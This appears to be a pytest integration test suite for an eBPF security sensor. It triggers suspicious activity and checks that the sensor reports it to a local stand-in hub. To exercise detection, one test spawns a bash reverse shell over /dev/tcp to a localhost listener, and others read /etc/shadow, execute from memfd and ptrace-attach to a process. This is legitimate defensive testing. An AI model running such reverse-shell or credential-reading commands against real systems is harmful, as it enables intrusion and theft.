@@ -1,0 +1,538 @@
+"""The sensor against the real kernel and a small HTTP receiver in place of the hub."""
+import ctypes
+import gzip
+import http.server
+import json
+import os
+import random
+import re
+import shutil
+import signal
+import socket
+import subprocess
+import sys
+import threading
+import time
+import uuid
+
+import pytest
+
+ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
+BUILD = os.environ.get("TOCSIN_BUILD", os.path.join(ROOT, "build"))
+SENSOR = os.path.join(BUILD, "sensor", "tocsin-sensor")
+CAP_SYS_ADMIN, CAP_BPF = 21, 39
+
+
+def ebpf_lacks():
+    """What the eBPF probe needs and does not have, or None."""
+    if not os.path.exists("/sys/kernel/btf/vmlinux"):
+        return "the kernel has no BTF"
+    with open("/proc/self/status") as status:
+        caps = int(re.search(r"CapEff:\s*([0-9a-f]+)", status.read()).group(1), 16)
+    if not caps & (1 << CAP_BPF | 1 << CAP_SYS_ADMIN):
+        return "CAP_BPF is not held"
+    return None
+
+
+needs_ebpf = pytest.mark.skipif(ebpf_lacks() is not None, reason=f"skipped, because {ebpf_lacks()}")
+
+
+def wait_for(condition, timeout=15.0, what="condition"):
+    end = time.monotonic() + timeout
+    while time.monotonic() < end:
+        value = condition()
+        if value:
+            return value
+        time.sleep(0.02)
+    raise AssertionError(f"not within {timeout} s: {what}")
+
+
+class Receiver:
+    """Takes events and heartbeats; can answer any status, or be closed and opened on its port."""
+
+    def __init__(self, port=0):
+        self.lock = threading.Lock()
+        self.events, self.heartbeats, self.statuses = [], [], []
+        self.status, self.headers = 200, {}
+        self.requests = 0
+        self.port = port
+        self.server = None
+        self.open()
+
+    def open(self):
+        outer = self
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            protocol_version = "HTTP/1.1"
+
+            def do_POST(self):
+                body = self.rfile.read(int(self.headers["Content-Length"]))
+                if self.headers.get("Content-Encoding") == "gzip":
+                    body = gzip.decompress(body)
+                status, headers = outer.take(self.path, self.headers, body)
+                self.send_response(status)
+                for name, value in headers.items():
+                    self.send_header(name, value)
+                self.send_header("Content-Length", "2")
+                self.end_headers()
+                self.wfile.write(b"{}")
+
+            def log_message(self, *args):
+                pass
+
+        class Server(http.server.ThreadingHTTPServer):
+            daemon_threads = True
+            allow_reuse_address = True
+
+        self.server = Server(("127.0.0.1", self.port), Handler)
+        self.port = self.server.server_address[1]
+        threading.Thread(target=self.server.serve_forever, args=(0.05,), daemon=True).start()
+
+    def close(self):
+        if self.server is not None:
+            self.server.shutdown()
+            self.server.server_close()
+            self.server = None
+
+    def take(self, path, headers, body):
+        with self.lock:
+            self.requests += 1
+            status = self.status
+            self.statuses.append((path, status))
+            if self.server is None:
+                return 503, {}
+            if path == "/api/v1/sensors/heartbeat":
+                self.heartbeats.append(json.loads(body))
+                return 200, {}
+            assert path == "/api/v1/events"
+            assert headers["Content-Type"] == "application/x-ndjson"
+            self.authorization = headers.get("Authorization")
+            if status == 200:
+                self.events += [json.loads(line) for line in body.splitlines()]
+            return status, dict(self.headers)
+
+    def find(self, **want):
+        """Events whose fields have these values; a_b stands for a.b, and a callable is a test."""
+
+        def matches(fields):
+            for name, value in want.items():
+                have = fields.get(name.replace("__", "."))
+                if not (value(have) if callable(value) else have == value):
+                    return False
+            return True
+
+        with self.lock:
+            return [event for event in self.events if matches(event["fields"])]
+
+
+class Sensor:
+    def __init__(self, spool, hub, *options, command=()):
+        self.spool = str(spool)
+        self.log = os.path.join(os.path.dirname(self.spool), f"sensor-{uuid.uuid4().hex}.log")
+        arguments = [SENSOR, "--spool-dir", self.spool, "--log-level", "debug", *options]
+        if hub is not None:
+            arguments += ["--hub", f"http://127.0.0.1:{hub}"]
+        if command:
+            arguments += ["--", *command]
+        with open(self.log, "w") as log:
+            self.process = subprocess.Popen(arguments, stdout=subprocess.PIPE, stderr=log)
+        if not command:
+            wait_for(lambda: "start: version" in self.text() or self.process.poll() is not None,
+                     what="the sensor's start")
+        assert self.process.poll() is None or command, self.text()
+
+    def text(self):
+        with open(self.log) as log:
+            return log.read()
+
+    def stop(self, number=signal.SIGTERM):
+        if self.process.poll() is None:
+            self.process.send_signal(number)
+        return self.process.wait(20)
+
+
+@pytest.fixture
+def receiver():
+    receiver = Receiver()
+    yield receiver
+    receiver.close()
+
+
+@pytest.fixture
+def sensors(tmp_path):
+    """Starts sensors and sees to it that none is left."""
+    started = []
+
+    def start(hub, *options, **more):
+        sensor = Sensor(tmp_path / more.pop("spool", "spool"), hub, *options, **more)
+        started.append(sensor)
+        return sensor
+
+    yield start
+    for sensor in started:
+        sensor.stop(signal.SIGKILL)
+
+
+@pytest.fixture
+def everything(receiver, sensors):
+    """A sensor that sends all that it observes."""
+    if ebpf_lacks():
+        pytest.skip(f"skipped, because {ebpf_lacks()}")
+    sensors(receiver.port, "--all-events")
+    return receiver
+
+
+def python(code, **more):
+    return subprocess.run([sys.executable, "-c", code], check=False, capture_output=True, **more)
+
+
+# ---- what is observed ----
+
+
+def test_a_file_made_in_a_binary_directory_is_seen_with_process_parent_user_and_file(everything):
+    path = f"/bin/surprise-{uuid.uuid4().hex[:8]}"
+    try:
+        subprocess.run(["sh", "-c", f"touch {path}; true"], check=True)
+    finally:
+        os.unlink(path)
+    real = os.path.realpath("/bin") + "/" + os.path.basename(path)
+    event = wait_for(lambda: everything.find(evt__type="openat", fd__name=real, proc__name="touch"))[0]
+    fields = event["fields"]
+    assert event["source"] == "syscall" and event["sensor"]["probe"] == "ebpf"
+    assert "O_CREAT" in fields["evt.arg.flags"] and "O_WRONLY" in fields["evt.arg.flags"]
+    assert fields["evt.is_open_write"] is True and fields["fd.typechar"] == "f"
+    assert fields["fd.nameraw"] == path and fields["evt.rawres"] == fields["fd.num"] >= 0
+    assert fields["proc.pname"] == "sh" and fields["proc.cmdline"] == f"touch {path}"
+    assert fields["proc.exepath"].endswith("/touch") and fields["proc.cwd"].endswith("/")
+    assert fields["proc.aname[2]"].startswith("python") or fields["proc.aname[2]"].startswith("pytest")
+    assert fields["user.name"] == "root" and fields["user.uid"] == 0
+    assert fields["container.id"] == "host"
+
+
+@pytest.mark.parametrize("how", ["absolute", "relative", "link"])
+def test_reading_shadow_is_seen_whatever_it_is_called(everything, tmp_path, how):
+    os.symlink("/etc/shadow", tmp_path / "harmless")
+    name, folder = {"absolute": ("/etc/shadow", "/"), "relative": ("shadow", "/etc"),
+                    "link": ("harmless", str(tmp_path))}[how]
+    subprocess.run(["cat", name], cwd=folder, stdout=subprocess.DEVNULL, check=True)
+    event = wait_for(lambda: everything.find(fd__name="/etc/shadow", proc__name="cat"))[0]
+    assert event["fields"]["evt.is_open_read"] is True
+    assert event["fields"]["evt.arg.flags"] == "O_RDONLY"
+    assert event["fields"]["fd.nameraw"] == name
+
+
+def test_ordinary_reads_are_not_taken(everything):
+    subprocess.run(["cat", "/etc/hostname"], stdout=subprocess.DEVNULL, check=True)
+    wait_for(lambda: everything.find(evt__type="execve", proc__cmdline="cat /etc/hostname"))
+    wait_for(lambda: everything.find(evt__type="procexit", proc__cmdline="cat /etc/hostname"))
+    assert not everything.find(fd__name="/etc/hostname")
+
+
+def test_a_reverse_shell_shows_its_connection_and_its_descriptors(everything):
+    listener = socket.create_server(("127.0.0.1", 0))
+    port = listener.getsockname()[1]
+    shell = subprocess.Popen(["bash", "-c", f"exec bash -i <>/dev/tcp/127.0.0.1/{port} >&0 2>&0"],
+                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    peer, _ = listener.accept()
+    try:
+        connect = wait_for(lambda: everything.find(evt__type="connect", fd__sport=port))[0]["fields"]
+        assert connect["fd.sip"] == "127.0.0.1" and connect["fd.rip"] == "127.0.0.1"
+        assert connect["fd.l4proto"] == "tcp" and connect["fd.type"] == "ipv4"
+        assert connect["fd.name"].endswith(f"->127.0.0.1:{port}") and connect["proc.name"] == "bash"
+        dup = wait_for(lambda: everything.find(evt__type="dup2", proc__pid=shell.pid,
+                                               fd__type="ipv4"))[0]["fields"]
+        assert dup["evt.rawres"] in (0, 1, 2) and dup["fd.sport"] == port
+    finally:
+        peer.close()
+        shell.kill()
+        shell.wait()
+        listener.close()
+
+
+def test_a_miner_is_seen_by_its_name(everything, tmp_path):
+    miner = tmp_path / "xmrig"
+    shutil.copy("/bin/sleep", miner)
+    subprocess.run([miner, "0"], check=True)
+    fields = wait_for(lambda: everything.find(evt__type="execve", proc__name="xmrig"))[0]["fields"]
+    assert fields["proc.exepath"] == str(miner) and fields["proc.cmdline"] == "xmrig 0"
+
+
+def test_a_dropped_binary_shows_how_young_it_is(everything, tmp_path):
+    dropped = tmp_path / "dropped"
+    shutil.copy("/bin/true", dropped)
+    subprocess.run([dropped], check=True)
+    fields = wait_for(lambda: everything.find(evt__type="execve", proc__name="dropped"))[0]["fields"]
+    assert abs(fields["proc.exe_ino.ctime"] - time.time_ns()) < 30e9
+    assert 0 <= fields["proc.exe_ino.ctime_duration_proc_start"] < 30e9
+    assert fields["proc.is_exe_from_memfd"] is False
+
+
+def test_a_program_without_a_file_is_seen(everything):
+    python("import os\n"
+           "fd = os.memfd_create('ghost')\n"
+           "os.write(fd, open('/bin/true', 'rb').read())\n"
+           "os.execve(fd, ['ghost'], {})\n")
+    fields = wait_for(lambda: everything.find(evt__type="execveat", proc__exe="ghost"))[0]["fields"]
+    assert fields["proc.is_exe_from_memfd"] is True
+    assert fields["proc.exepath"].startswith("memfd:ghost")
+    assert "EXE_FROM_MEMFD" in fields["evt.arg.flags"]
+
+
+@pytest.mark.parametrize("code, call, argument", [
+    ("os.setuid(65534)", "setuid", "evt.arg.uid"),
+    ("os.setresuid(65534, 65534, 65534)", "setresuid", "evt.arg.euid"),
+    ("os.setreuid(65534, 65534)", "setreuid", "evt.arg.ruid"),
+])
+def test_a_change_of_identity_is_seen_with_the_new_one(everything, code, call, argument):
+    python("import os; " + code)
+    fields = wait_for(lambda: everything.find(evt__type=call, user__uid=65534))[0]["fields"]
+    assert fields[argument] == "nobody" and fields["user.name"] == "nobody"
+    assert fields["evt.res"] == "SUCCESS"
+
+
+def test_a_refused_change_of_identity_is_seen_too(everything):
+    python("import os\nos.setuid(65534)\ntry:\n os.setuid(0)\nexcept OSError: pass\n")
+    fields = wait_for(lambda: everything.find(evt__type="setuid", evt__rawres=-1))[0]["fields"]
+    assert fields["evt.res"] == "EPERM" and fields["evt.arg.uid"] == "root"
+
+
+def test_attaching_to_another_process_is_seen(everything):
+    victim = subprocess.Popen(["sleep", "30"])
+    try:
+        python(f"import ctypes; libc = ctypes.CDLL(None); libc.ptrace(16, {victim.pid}, 0, 0)")
+        fields = wait_for(lambda: everything.find(evt__type="ptrace",
+                                                  evt__arg__request="PTRACE_ATTACH"))[0]["fields"]
+        assert fields["evt.arg.pid"] == "sleep" and fields["evt.res"] == "SUCCESS"
+    finally:
+        victim.kill()
+        victim.wait()
+
+
+def test_names_and_modes_of_files_are_absolute(everything, tmp_path):
+    python("import os\n"
+           "open('a', 'w').close(); os.chmod('a', 0o4755); os.rename('a', 'b')\n"
+           "os.symlink('/etc/shadow', 's'); os.mkdir('d'); os.rmdir('d'); os.unlink('b')\n",
+           cwd=tmp_path)
+    at = str(tmp_path) + "/"
+    chmod = wait_for(lambda: everything.find(evt__arg__filename=at + "a"))[0]["fields"]
+    assert "S_ISUID" in chmod["evt.arg.mode"]
+    rename = wait_for(lambda: everything.find(evt__arg__oldpath=at + "a"))[0]["fields"]
+    assert rename["evt.arg.newpath"] == at + "b"
+    link = wait_for(lambda: everything.find(evt__arg__linkpath=at + "s"))[0]["fields"]
+    assert link["evt.arg.target"] == "/etc/shadow"
+    wait_for(lambda: everything.find(evt__arg__path=at + "d", evt__type="mkdir"))
+    wait_for(lambda: everything.find(evt__arg__path=at + "d", evt__type="rmdir"))
+    wait_for(lambda: everything.find(evt__arg__path=at + "b", evt__type="unlink"))
+
+
+def test_the_working_directory_follows_chdir(everything, tmp_path):
+    (tmp_path / "deep").mkdir()
+    python("import os; os.chdir('deep'); open('made', 'w').close()", cwd=tmp_path)
+    fields = wait_for(lambda: everything.find(fd__name=str(tmp_path / "deep" / "made")))[0]["fields"]
+    assert fields["proc.cwd"] == str(tmp_path / "deep") + "/"
+
+
+def test_hostile_bytes_in_names_survive(everything, tmp_path):
+    name = b"x\xff\n\"\\\x1b[31m"
+    python("import os,sys; open(b'x\\xff\\n\"\\\\\\x1b[31m', 'w').close()", cwd=tmp_path)
+    event = wait_for(lambda: everything.find(
+        fd__name=lambda have: have and have.startswith(str(tmp_path) + "/x")))[0]
+    text = event["fields"]["fd.name"][len(str(tmp_path)) + 1:]
+    back = b"".join(bytes([ord(c) & 0xff]) if 0xef00 <= ord(c) <= 0xefff else c.encode() for c in text)
+    assert back == name
+
+
+# ---- accounting and delivery ----
+
+
+def sequence(receiver, boot):
+    with receiver.lock:
+        return [event["sensor"]["seq"] for event in receiver.events if event["sensor"]["boot"] == boot]
+
+
+def boots(receiver):
+    with receiver.lock:
+        return list(dict.fromkeys(event["sensor"]["boot"] for event in receiver.events))
+
+
+def is_complete_and_in_order(numbers):
+    """1..n, none missing, none new before an older one; repeats are allowed."""
+    highest = 0
+    for number in numbers:
+        if number > highest + 1:
+            return False
+        highest = max(highest, number)
+    return bool(numbers)
+
+
+def make_events(count, tag):
+    """Directories under a name of their own, each one event."""
+    code = ("import os\nfor i in range(%d):\n"
+            " try: os.mkdir('/nonexistent-%s/%%d' %% i)\n except OSError: pass\n" % (count, tag))
+    subprocess.run([sys.executable, "-c", code], check=True)
+
+
+def made(receiver, tag):
+    return receiver.find(evt__type="mkdir", evt__arg__path=lambda have: have and tag in have)
+
+
+@needs_ebpf
+def test_the_heartbeat_accounts_for_every_record(receiver, sensors):
+    sensor = sensors(receiver.port, "--all-events")
+    make_events(2000, "account")
+    wait_for(lambda: len(made(receiver, "account")) == 2000)
+    assert sensor.stop() == 0
+    last = receiver.heartbeats[-1]
+    stats = last["stats"]
+    assert stats["in_ring"] == 0
+    assert stats["seen"] == stats["filtered"] + stats["emitted"] + sum(stats["lost"].values())
+    assert sum(stats["lost"].values()) == 0
+    assert last["sensor"]["last_seq"] == stats["emitted"] == max(sequence(receiver, last["sensor"]["boot"]))
+    assert {"processes", "evicted"} <= set(stats["table"])
+
+
+@needs_ebpf
+def test_a_storm_of_forks_is_accounted_for(receiver, sensors):
+    sensor = sensors(receiver.port, "--all-events")
+    code = ("import os\nfor i in range(3000):\n"
+            " pid = os.fork()\n"
+            " if pid == 0: os._exit(0)\n"
+            " os.waitpid(pid, 0)\n")
+    subprocess.run([sys.executable, "-c", code], check=True)
+    assert sensor.stop() == 0
+    stats = receiver.heartbeats[-1]["stats"]
+    assert stats["seen"] == stats["filtered"] + stats["emitted"] + sum(stats["lost"].values())
+    assert stats["lost"]["process"] == 0
+    assert stats["seen"] >= 6000
+    assert stats["table"]["processes"] < 1000
+
+
+@needs_ebpf
+def test_its_own_traffic_does_not_feed_it(receiver, sensors):
+    sensor = sensors(receiver.port, "--all-events")
+    make_events(50, "own")
+    wait_for(lambda: len(made(receiver, "own")) == 50)
+    assert not receiver.find(proc__pid=sensor.process.pid)
+
+
+@needs_ebpf
+def test_a_receiver_that_is_away_for_ten_seconds_gets_everything_in_order(receiver, sensors):
+    sensor = sensors(receiver.port, "--all-events")
+    make_events(300, "before")
+    wait_for(lambda: len(made(receiver, "before")) == 300)
+    receiver.close()
+    end = time.monotonic() + 10
+    rounds = 0
+    while time.monotonic() < end:
+        make_events(200, f"away{rounds}-")
+        rounds += 1
+        time.sleep(0.2)
+    assert "events go to the spool" in sensor.text()
+    receiver.open()
+    wait_for(lambda: len(made(receiver, f"away{rounds - 1}-")) >= 200, 60, "the spool's delivery")
+    make_events(10, "after")
+    wait_for(lambda: len(made(receiver, "after")) >= 10, 30)
+    assert sensor.stop() == 0
+    [boot] = boots(receiver)
+    numbers = sequence(receiver, boot)
+    assert is_complete_and_in_order(numbers)
+    assert max(numbers) == receiver.heartbeats[-1]["sensor"]["last_seq"]
+    for i in range(rounds):
+        assert len({json.dumps(e["sensor"]) for e in made(receiver, f"away{i}-")}) == 200
+
+
+@needs_ebpf
+@pytest.mark.parametrize("status", [429, 500, 503])
+def test_a_refusal_is_waited_out_for_as_long_as_the_hub_asks(receiver, sensors, status):
+    receiver.status, receiver.headers = status, {"Retry-After": "2"}
+    sensors(receiver.port, "--all-events")
+    make_events(20, "refused")
+    wait_for(lambda: ("/api/v1/events", status) in receiver.statuses)
+    first = time.monotonic()
+    receiver.status, receiver.headers = 200, {}
+    wait_for(lambda: len(made(receiver, "refused")) == 20)
+    assert time.monotonic() - first > 1.8
+    assert is_complete_and_in_order(sequence(receiver, boots(receiver)[0]))
+
+
+@needs_ebpf
+def test_a_spool_survives_kill_9(receiver, sensors):
+    receiver.close()
+    sensor = sensors(receiver.port, "--all-events")
+    make_events(500, "killed")
+    wait_for(lambda: "events go to the spool" in sensor.text())
+    make_events(500, "killed-later")
+
+    def spooled():
+        return sum(os.path.getsize(os.path.join(sensor.spool, name))
+                   for name in os.listdir(sensor.spool) if name.endswith(".seg"))
+
+    size = wait_for(lambda: spooled() > 500000 and spooled())
+    time.sleep(0.5)  # more than a batch's age: all that was made is on disk
+    assert spooled() >= size
+    sensor.stop(signal.SIGKILL)
+    receiver.open()
+    second = sensors(receiver.port, "--all-events")
+    make_events(5, "second")
+    wait_for(lambda: len(made(receiver, "second")) == 5, 30)
+    assert "of an earlier run wait to be sent" in second.text()
+    old, new = boots(receiver)
+    assert is_complete_and_in_order(sequence(receiver, old))
+    assert is_complete_and_in_order(sequence(receiver, new))
+    assert len({e["sensor"]["seq"] for e in made(receiver, "killed")}) == 1000
+    order = [event["sensor"]["boot"] for event in receiver.events]
+    assert order.index(new) > max(i for i, boot in enumerate(order) if boot == old)
+    ids = {event["sensor"]["id"] for event in receiver.events}
+    assert len(ids) == 1
+
+
+@needs_ebpf
+def test_sigterm_leaves_nothing_behind_but_the_spool(receiver, sensors):
+    receiver.close()
+    sensor = sensors(receiver.port, "--all-events")
+    make_events(100, "term")
+    assert sensor.stop() == 0
+    receiver.open()
+    sensors(receiver.port, "--all-events")
+    wait_for(lambda: len(made(receiver, "term")) == 100, 30)
+
+
+@needs_ebpf
+def test_the_token_is_sent_and_never_shown(receiver, sensors, tmp_path):
+    secret = "s3cret-" + uuid.uuid4().hex
+    (tmp_path / "token").write_text(secret + "\n")
+    sensor = sensors(receiver.port, "--all-events", "--token", f"file:{tmp_path}/token")
+    make_events(5, "token")
+    wait_for(lambda: len(made(receiver, "token")) == 5)
+    assert receiver.authorization == f"Bearer {secret}"
+    sensor.stop()
+    assert secret not in sensor.text()
+
+
+@needs_ebpf
+def test_two_sensors_do_not_share_a_spool(receiver, sensors):
+    sensors(receiver.port, "--all-events")
+    with pytest.raises(AssertionError, match="another sensor"):
+        sensors(receiver.port, "--all-events")
+
+
+# ---- the command line ----
+
+
+def test_the_doctor_says_what_is_there():
+    result = subprocess.run([SENSOR, "--doctor"], capture_output=True, text=True, check=False)
+    assert "BTF of the kernel" in result.stdout and "Probe: " in result.stdout
+
+
+@pytest.mark.parametrize("arguments, text", [
+    (["--hub", "ftp://x"], "http"),
+    (["--probe", "magic"], "ebpf"),
+    (["--token", "plain-secret", "--print"], "file:"),
+    ([], "--hub"),
+    (["--hub", "http://127.0.0.1:1", "--rules", "/nonexistent.yaml"], "nonexistent"),
+])
+def test_a_wrong_command_line_says_what_is_wrong(arguments, text, tmp_path):
+    result = subprocess.run([SENSOR, "--spool-dir", str(tmp_path / "spool"), *arguments],
+                            capture_output=True, text=True, check=False, timeout=20)
+    assert result.returncode != 0
+    assert text in result.stderr and "plain-secret" not in result.stderr
